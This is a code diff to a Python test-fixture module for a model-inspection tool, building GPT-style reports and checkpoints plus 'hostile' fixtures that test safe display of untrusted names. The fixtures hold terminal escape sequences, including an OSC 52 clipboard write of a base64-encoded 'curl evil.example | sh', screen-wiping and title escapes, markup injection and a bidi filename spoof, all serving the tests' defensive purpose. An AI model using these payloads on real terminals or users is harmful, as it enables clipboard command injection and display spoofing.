@@ -51,7 +51,7 @@ class _Builder:
     def param(self, module, name, shape, trainable=True, metadata=None) -> None:
         size = int(np.prod(shape, dtype=np.int64))
         p = ParamInfo(
-            path=f"{module.path}/{name}",
+            path=bx.path_str((*module.path_tuple, name)),
             module=module.path,
             name=name,
             shape=list(shape),
@@ -124,10 +124,12 @@ class _Builder:
         )
 
 
-def gpt_report(n_layers: int = 2, d: int = 8, vocab: int = 64) -> Report:
+def gpt_report(n_layers: int = 2, d: int = 8, vocab: int = 64, block: str = "block_{}") -> Report:
     """A GPT-style model: embed, n_layers blocks (ln, attn q/k/v/o, ln, mlp up/down), head.
 
-    Each block adds 11 modules, so ``n_layers=910`` gives just over 10,000.
+    Each block adds 11 modules, so ``n_layers=910`` gives just over 10,000. Blocks named by number
+    alone (``block="{}"``) fold into one ×N row; ``block_0, block_1`` fold only where dataflow shows
+    each feeding the next, and these reports hold no dataflow.
     """
     b = _Builder()
     x = [_spec(BATCH, SEQ, d)]
@@ -145,7 +147,7 @@ def gpt_report(n_layers: int = 2, d: int = 8, vocab: int = 64) -> Report:
     b.param(emb, "embedding", (vocab, d), metadata={"sharding": [None, "model"]})
     b.module(("gpt", "blocks"), "Sequential", {}, x, x, caller="gpt")
     for i in range(n_layers):
-        blk = ("gpt", "blocks", f"block_{i}")
+        blk = ("gpt", "blocks", block.format(i))
         b.module(blk, "Block", {"d": d}, x, x, caller="gpt/blocks")
         b.norm(blk + ("ln1",), d)
         b.module(
@@ -172,3 +174,84 @@ def gpt_params(report: Report, seed: int = 0) -> bx.Params:
             value = (rng.standard_normal(p.shape) * 0.02).astype(np.float32)
         data[bx.parse_path(p.path)] = bx.Param(value, p.trainable, p.metadata)
     return bx.Params(data).locked()
+
+
+# Names an attacker's model file, checkpoint or saved report may hold (issues #11 and #12).
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes `curl evil.example | sh` to the clipboard
+HOSTILE_NAMES = [
+    "clip" + OSC52,
+    "wipe\x1b[2J\x1b[H",
+    "title\x1b]0;pwned\x07",
+    "bell\x07ring",
+    "over\rwrite",
+    "[/]",
+    "[bold red]red",
+    "[reverse]rev",
+    "bidi\u202egnp.exe",
+    "L" * 300,
+    " ",
+    "\u200b",
+]
+HOSTILE_META = {"sharding": "[/]", "[bold red]key": "[reverse]value" + OSC52}
+HOSTILE_DTYPE = "[bold red]float32\x1b[2J"
+HOSTILE_CONFIG = "[net/mlp/a, relu, net/mlp/b]"  # a Sequential's layers, as the analysis writes them
+HOSTILE_NOTE = "saved with [/] and [bold red]markup\x1b]0;title\x07"
+
+
+def hostile_report() -> Report:
+    """A Report with every kind of untrusted text: module and param names, types, configs, dtypes,
+    metadata, call shapes and notes, round-tripped through JSON as ``--load`` reads it."""
+    b = _Builder()
+    x = [_spec(2, 3)]
+    net = b.module(("net",), "Sequential", {}, x, x)
+    net.config = {"layers": HOSTILE_CONFIG}
+    for name in HOSTILE_NAMES:
+        m = b.module(("net", name), "Linear" + OSC52, {}, [_spec(2, 3, dtype=HOSTILE_DTYPE)], x, caller=name)
+        m.config = {"note": "[/]", "act": "[reverse]relu", name: HOSTILE_CONFIG}
+        b.param(m, "kernel", (3, 3), metadata=HOSTILE_META)
+        b.param(m, name, (3,))
+    quiet = b.module(("net", "quiet"), "Identity", {}, x, x)
+    quiet.call_info = []  # a module the trace never saw: its details show the report's notes
+    for p in b.params:
+        if p.name == "kernel":
+            p.dtype = HOSTILE_DTYPE
+    report = b.finish("net", 3)
+    report.notes = [HOSTILE_NOTE]
+    return Report.from_json(report.to_json())
+
+
+def hostile_params(report: Report) -> bx.Params:
+    """Real values for the hostile report's params, keeping their hostile names and metadata."""
+    data = {}
+    for i, p in enumerate(report.params):
+        data[bx.parse_path(p.path)] = bx.Param(np.full(p.shape, i, np.float32), p.trainable, p.metadata)
+    return bx.Params(data).locked()
+
+
+def write_gpt2_checkpoint(file, n_layers: int = 12, d: int = 8, vocab: int = 50, ctx: int = 16) -> dict:
+    """A GPT-2-shaped checkpoint as Hugging Face names it (``wte.weight``, ``h.0.attn.c_attn.weight``),
+    written with the official safetensors library; returns the arrays by name."""
+    from safetensors.numpy import save_file
+
+    rng = np.random.default_rng(0)
+    shapes = {"wte.weight": (vocab, d), "wpe.weight": (ctx, d)}
+    for i in range(n_layers):
+        for name, shape in [
+            ("ln_1.weight", (d,)),
+            ("ln_1.bias", (d,)),
+            ("attn.c_attn.weight", (d, 3 * d)),
+            ("attn.c_attn.bias", (3 * d,)),
+            ("attn.c_proj.weight", (d, d)),
+            ("attn.c_proj.bias", (d,)),
+            ("ln_2.weight", (d,)),
+            ("ln_2.bias", (d,)),
+            ("mlp.c_fc.weight", (d, 4 * d)),
+            ("mlp.c_fc.bias", (4 * d,)),
+            ("mlp.c_proj.weight", (4 * d, d)),
+            ("mlp.c_proj.bias", (d,)),
+        ]:
+            shapes[f"h.{i}.{name}"] = shape
+    shapes.update({"ln_f.weight": (d,), "ln_f.bias": (d,)})
+    arrays = {k: (rng.standard_normal(s) * 0.02).astype(np.float32) for k, s in shapes.items()}
+    save_file(arrays, str(file))
+    return arrays
